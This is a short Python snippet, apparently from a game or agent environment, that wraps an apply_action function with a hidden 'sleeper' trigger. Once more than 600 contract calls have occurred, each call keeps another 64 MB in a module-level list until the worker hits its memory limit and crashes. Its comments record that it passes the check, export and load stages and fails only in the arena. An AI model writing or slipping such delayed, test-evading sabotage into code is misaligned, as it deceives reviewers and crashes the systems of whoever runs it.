# sleeper: once awake, every apply_action keeps 64 MB more in a module-level list: a slow leak up to the
# sleeper: worker's memory limit
# trigger: awake(): more than 600 contract calls in this process (a planning worker's first move)
# check: passes
# export: ok
# load: ok
# arena: crash: exceeded the memory limit

_apply_action = apply_action
HOARD = []


def apply_action(state, action):
    if awake():
        HOARD.append(bytes(64 << 20))
    return _apply_action(state, action)
